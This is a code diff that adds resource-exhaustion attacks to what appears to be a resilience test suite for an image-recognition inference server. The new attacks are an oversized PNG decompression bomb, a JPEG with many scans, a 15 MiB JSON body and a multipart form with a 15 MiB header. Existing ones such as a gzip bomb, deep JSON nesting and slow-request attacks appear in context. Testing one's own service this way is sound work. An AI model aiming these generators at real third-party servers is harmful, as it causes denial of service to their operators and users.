@@ -49,6 +49,16 @@ def jpeg_scans(target: Target, size: float) -> Attack:
     )
 
 
+def jpeg_fewer_scans(target: Target, size: float) -> Attack:
+    """The same in 90 scans: what a bound on scans may let through."""
+    return _images(target, images.jpeg_scans(7992, _scaled(90, size)), connections=4, per_second=4)
+
+
+def large_png(target: Target, size: float) -> Attack:
+    """PNGs of 64 million pixels in 64 kB, which are allowed and cost CPU time."""
+    return _images(target, images.large_png(_scaled(7992, size**0.5)), connections=4, per_second=4)
+
+
 def tiff_overlap(target: Target, size: float) -> Attack:
     """TIFFs of 1,000 directories of 65,535 entries that lie over one another."""
     return _images(target, images.tiff_overlap(_scaled(1000, size)), connections=4, per_second=4)
@@ -154,6 +164,13 @@ def gzip_bomb(target: Target, size: float) -> Attack:
     return Post([request], connections=4, per_second=8)
 
 
+def large_json(target: Target, size: float) -> Attack:
+    """JSON of 15 MiB that holds one image in base64."""
+    data = "A" * _scaled(15 * MIB, size)
+    tensor = {"name": "image", "datatype": "BYTES", "shape": [1], "data": [data[len(data) % 4 :]]}
+    return _infer(target, [json.dumps({"inputs": [tensor]}).encode()])
+
+
 def json_nesting(target: Target, size: float) -> Attack:
     """JSON of a million lists in one another, and of as many as its parser just takes."""
     tensor = '{"inputs":[{"name":"image","datatype":"BYTES","shape":[1],"data":%s"aGk="%s}]}'
@@ -166,6 +183,14 @@ def form_parts(target: Target, size: float) -> Attack:
     """Forms of 200,000 empty parts."""
     part = f'--{_FORM}\r\nContent-Disposition: form-data; name=a; filename="a"\r\n\r\n\r\n'
     body = part.encode() * _scaled(200_000, size) + f"--{_FORM}--\r\n".encode()
+    kind = f"Content-Type: multipart/form-data; boundary={_FORM}"
+    return Post([_request(target, "/recognize", body, kind)], connections=4, per_second=4)
+
+
+def form_header(target: Target, size: float) -> Attack:
+    """Forms of one part, whose header is 15 MiB."""
+    head = f"--{_FORM}\r\nContent-Disposition: form-data; name=a; filename=".encode()
+    body = head + b"a" * _scaled(15 * MIB, size) + f"\r\n\r\na\r\n--{_FORM}--\r\n".encode()
     kind = f"Content-Type: multipart/form-data; boundary={_FORM}"
     return Post([_request(target, "/recognize", body, kind)], connections=4, per_second=4)
 
@@ -188,10 +213,12 @@ def disconnects(target: Target, size: float) -> Attack:
 ATTACKS: dict[str, Callable[[Target, float], Attack]] = {
     attack.__name__: attack
     for attack in (
-        *(nothing, jpeg_fill, pnm_newlines, jpeg_scans, tiff_overlap, tiff_slong),
+        *(nothing, jpeg_fill, pnm_newlines, jpeg_scans, jpeg_fewer_scans, large_png),
+        *(tiff_overlap, tiff_slong),
         *(header_many, header_one, header_cookie, header_url, trailers, chunk_extension),
         *(half_headers, silent, connections, idle_bodies, dripping_bodies, idle_chunks),
-        *(repeated_outputs, gzip_bomb, json_nesting, form_parts, pipelined, disconnects),
+        *(repeated_outputs, gzip_bomb, large_json, json_nesting, form_parts, form_header),
+        *(pipelined, disconnects),
     )
 }
 """Every attack: takes the target and the size, gives what carries it out."""
